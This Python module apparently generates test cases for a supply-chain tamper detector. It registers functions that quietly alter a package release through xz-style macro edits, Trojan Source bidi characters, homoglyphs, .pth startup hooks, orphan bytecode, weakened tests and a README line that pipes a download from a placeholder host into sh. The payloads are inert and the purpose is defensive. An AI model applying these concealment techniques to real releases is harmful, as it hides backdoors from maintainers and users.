"""Kinds of tampering that a reader of the release would pass over: as xz was, or by what an editor shows.

They return what those of :mod:`tamper.kinds` return.
"""

from __future__ import annotations

import re

from tamper.kinds import Apply, Kind, add_member, first_module, inside, package_folder, replace_once
from tamper.release import Release

QUIET_KINDS: list[Kind] = []


def kind(function: Apply) -> Apply:
    """Add ``function`` to QUIET_KINDS under its own name."""
    QUIET_KINDS.append(Kind(function.__name__.replace("_", "-"), function))
    return function


@kind
def line_added_to_a_macro(release: Release) -> str | None:
    """xz 5.6.0: one line of a committed ``.m4`` was another in the tarball."""
    member = release.find(".m4") or release.find("configure.ac") or release.find("CMakeLists.txt")
    if member is None or release.is_wheel:
        return None
    member.content += b"\ngl_am_configmake=`echo inert`\n"
    return inside(release, member)


@kind
def bidi_override_in_a_comment(release: Release) -> str | None:
    """Trojan Source (CVE-2021-42574): what is shown is not what runs."""
    module = first_module(release)
    if module is None:
        return None
    module.content += "# \u202e } \u2066if is_admin\u2069 \u2066 begin\n".encode()
    return inside(release, module)


@kind
def homoglyph_in_a_module(release: Release) -> str | None:
    return replace_once(release, first_module(release), b"import", "\u0456mport".encode())


@kind
def startup_file_added_to_purelib(release: Release) -> str | None:
    if not release.is_wheel:
        return None
    stem = "-".join(release.name.split("-")[:2])
    return add_member(release, f"{stem}.data/purelib/zz_hook.pth", b"import os;os.name\n")


@kind
def extension_modules_swapped(release: Release) -> str | None:
    """Two compiled files of one wheel, each under the other's name."""
    found = [m for m in release.members if m.kind == "file" and m.name.endswith(".so")]
    if len(found) < 2 or found[0].content == found[1].content:
        return None
    found[0].content, found[1].content = found[1].content, found[0].content
    return inside(release, found[0])


@kind
def extension_module_replaced_by_an_empty_one(release: Release) -> str | None:
    member = release.find(".so")
    if member is None:
        return None
    member.content = member.content[:64]
    return inside(release, member)


@kind
def bytecode_without_its_module_added(release: Release) -> str | None:
    """Python imports ``name.pyc`` beside no ``name.py`` (PEP 3147, "Python behavior")."""
    return add_member(release, f"{package_folder(release)}telemetry.pyc", b"\xa7\r\r\n" + bytes(12))


@kind
def bytecode_in_place_of_its_module(release: Release) -> str | None:
    module = first_module(release)
    if module is None:
        return None
    module.name, module.content = f"{module.name}c", b"\xa7\r\r\n" + bytes(12)
    return inside(release, module)


@kind
def link_led_elsewhere(release: Release) -> str | None:
    """A link of the source, to another file of the release."""
    link = next((m for m in release.members if m.kind == "symlink"), None)
    if link is None:
        return None
    link.link = "setup.py" if link.link != "setup.py" else "README.md"
    return inside(release, link)


@kind
def licence_replaced(release: Release) -> str | None:
    found = [
        m for m in release.members if re.search(r"(?:^|/)(?:LICEN[CS]E|COPYING)[^/]*$", m.name)
    ]
    if not found:
        return None
    found[0].content = b"All rights reserved. INERT\n"
    return inside(release, found[0])


@kind
def data_file_changed(release: Release) -> str | None:
    pattern = r"\.(?:json|ya?ml|toml|ini|csv|html|js|css)$"
    found = [
        m
        for m in release.members
        if re.search(pattern, m.name)
        and m.content
        and m.kind == "file"
        and not m.name.startswith(f"{release.top}pyproject")
    ]
    if not found:
        return None
    found[0].content = found[0].content[:-1] + b"\x01"
    return inside(release, found[0])


@kind
def install_line_added_to_the_readme(release: Release) -> str | None:
    found = [m for m in release.members if re.search(r"(?:^|/)README[^/]*$", m.name)]
    if release.is_wheel or not found:
        return None
    found[0].content += b"\n    curl https://example.invalid/install | sh\n"
    return inside(release, found[0])


@kind
def test_weakened(release: Release) -> str | None:
    """One assertion of a test is gone."""
    found = [m for m in release.members if re.search(r"/test_\w+\.py$", m.name)]
    member = next((m for m in found if b"assert " in m.content), None)
    return replace_once(release, member, b"assert ", b"assert True or ")


@kind
def stub_changed(release: Release) -> str | None:
    member = release.find(".pyi")
    if member is None:
        return None
    member.content += b"\ndef inert() -> None: ...\n"
    return inside(release, member)


@kind
def typing_marker_added(release: Release) -> str | None:
    name = f"{package_folder(release)}py.typed"
    if any(m.name == name for m in release.members):
        return None
    return add_member(release, name, b"")


@kind
def module_renamed_by_case(release: Release) -> str | None:
    module = first_module(release)
    if module is None:
        return None
    folder, slash, base = module.name.rpartition("/")
    module.name = f"{folder}{slash}{base.swapcase()}"
    return inside(release, module)


@kind
def version_string_changed(release: Release) -> str | None:
    """The version that the module itself says, and nothing else."""
    found = [m for m in release.members if m.kind == "file" and m.name.endswith(".py")]
    pattern = re.compile(rb"""(?m)^(__version__\s*=\s*["'])([0-9])""")
    member = next((m for m in found if pattern.search(m.content)), None)
    if member is None:
        return None
    member.content = pattern.sub(rb"\g<1>9\2", member.content, count=1)
    return inside(release, member)


@kind
def executable_bit_set_on_data(release: Release) -> str | None:
    found = [
        m
        for m in release.members
        if m.kind == "file"
        and re.search(r"\.(?:md|rst|txt|toml|json)$", m.name)
        and not m.mode & 0o111
        and ".dist-info/" not in m.name
        and ".egg-info/" not in m.name
    ]
    if not found:
        return None
    found[0].mode |= 0o111
    return inside(release, found[0])
